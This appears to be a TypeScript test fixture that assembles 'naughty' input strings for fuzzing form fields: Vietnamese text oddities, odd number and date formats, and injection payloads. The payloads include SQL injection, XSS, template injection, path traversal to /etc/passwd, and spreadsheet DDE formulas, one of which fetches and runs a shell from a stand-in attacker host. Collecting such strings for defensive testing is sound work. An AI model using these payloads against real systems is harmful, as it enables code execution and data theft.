/**
 * Texts that break careless programs: a public list of such strings, oddities of Vietnamese writing, cells that
 * spreadsheets would run. Owns how they are packed, so that one form carries many of them.
 */
import { readFileSync } from 'node:fs';

const naughty = JSON.parse(readFileSync('tests/fixtures/blns.json', 'utf8')) as string[];

const nfd = (text: string) => text.normalize('NFD');
/** Spellings, encodings, figures and days as they really arrive, and those that only an attacker sends. */
const vietnamese = [
  ...[
    nfd('Nguyễn Thị Đoan Trang'),
    'Ðặng Văn Đức',
    'Hoà Thuỵ',
    'Hòa Thụy',
    'NGUYỄN THỊ MƯỜI',
    'nguyễn   văn  \u00a0 a',
  ],
  ...[
    'NguyÔn V¨n ¸nh',
    'Nguyeãn Vaên AÙnh',
    'Nguyá»…n VÄƒn Ãnh',
    'Ngu\u200byễn\u200d Văn\ufeff Ánh',
    'Nguyễn\u00adVăn',
    "H'Hen Niê",
    'Y-Bình',
  ],
  ...[
    '\u202eaná rắT gnúĐ\u202c',
    'e\u0301\u0323\u0302\u0323',
    '\u0303\u0309\u0301',
    'ươ'.repeat(90),
    'Nghiêng'.repeat(60),
    'Đ\u0336Ồ\u0336N\u0336G\u0336',
  ],
  ...[
    '“Đèn” – ‘Sách’ …',
    '½ suất',
    '№ 12',
    '５００．０００',
    '500.000đ',
    '500,000.00',
    '1.5',
    '2tr5',
    '2 triệu rưỡi',
    'năm trăm nghìn',
    '-500.000',
  ],
  ...[
    '1e9',
    '0x1F',
    '9'.repeat(40),
    '٥٠٠',
    '٫',
    '१०००',
    'hôm nay',
    'mùng 4 Tết',
    '30/02/2019',
    '29/02/2019',
    '31/12/9999',
    '00/00/0000',
    '2019-13-45',
  ],
  ...[
    'dòng một\ndòng hai\r\ndòng ba',
    'cột\tcột',
    '\u2028\u2029',
    '\u0085',
    '\u0007\u001b[31mđỏ\u001b[0m',
    '%s%n%x',
    '{{7*7}}',
    '$\u007b7*7}',
    '#{7*7}',
    '<%= 7*7 %>',
  ],
  ...[
    '#set page(width: 1pt)',
    '$ x = y $',
    '#read("/etc/passwd")',
    '*đậm* _nghiêng_ `mã`',
    '@param',
    '\\u{1F600}',
    '{count, plural, other {#}}',
    "{name, select, other {'}}",
  ],
  ...[
    "Robert'); DROP TABLE app.contribution;--",
    "' OR '1'='1",
    "'; SELECT pg_sleep(5);--",
    '\\x00',
    '%00',
    '%',
    '_',
    '%_%',
    '\\',
    "\\'",
    '{"a":1}',
    '{1,2}',
    '[]',
    'null',
  ],
  ...[
    '</textarea><script>alert(1)</script>',
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    '</script><script>alert(1)</script>',
    '<!--',
    ']]>',
    '&#60;script&#62;',
  ],
  ...[
    'javascript:alert(1)',
    'data:text/html,<script>alert(1)</script>',
    '//xau.example',
    '/\\xau.example',
    '../../../../etc/passwd',
    '$ACTION_ID_1',
    '__proto__',
    'constructor',
  ],
  ...[
    '👨‍👩‍👧‍👦🇻🇳',
    '\u{10FFFF}',
    '\uFFFE',
    'ﷺ',
    '𝕯𝖊𝖓 𝕾𝖆𝖈𝖍',
    'Ｄｅｎ Ｓａｃｈ',
    'ⅫⅣ',
    'İIıi',
    'ß',
    'ﬁ',
    '\u00a0',
    '\u3000',
    '\u180e',
    '.',
    '-',
  ],
];

/** Cells that a spreadsheet would take for a formula or a command. */
export const formulas = [
  ...[
    '=1+1',
    '+1+1',
    '-1+1',
    '@SUM(1+1)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    ' =1+1',
    '＝1+1',
    ';=1+1',
    '",=1+1,"',
    "'=1+1",
    '=HYPERLINK("//xau.example","Bấm đây")',
  ],
  ...[
    'DDE ("cmd";"/C calc";"!A0")A0',
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "=10+20+cmd|' /C calc'!A0",
    "=cmd|' /C notepad'!'A1'",
  ],
  ...[
    "=cmd|'/C powershell IEX(wget attacker_server/shell.exe)'!A0",
    "=cmd|'/c rundll32.exe \\\\10.0.0.1\\3\\2\\1.dll,0'!_xlbgnm.A1",
  ],
];

export const allTexts: readonly string[] = [...new Set([...naughty, ...vietnamese, ...formulas])];

/** A request cannot carry lone halves of a character, and the longest field takes this much. */
const roomOfGroup = 160;

/** All texts in groups that fit a field of ordinary length; what is longer stands alone. Formulas stand alone, for they must stand first. */
export const groups: readonly string[] = [
  ...formulas,
  ...allTexts
    .filter((text) => !formulas.includes(text))
    .reduce<string[]>((packed, text) => {
      const last = packed.at(-1);
      if (last !== undefined && last.length + text.length < roomOfGroup)
        packed[packed.length - 1] = `${last} ${text}`;
      else packed.push(text);
      return packed;
    }, []),
];

/** The group for one field of one request: every field meets every group, in another order. */
export function textFor(request: number, field: number, maxLength = 200): string {
  return [...(groups[(request + field * 7) % groups.length] ?? '')].slice(0, maxLength).join('');
}
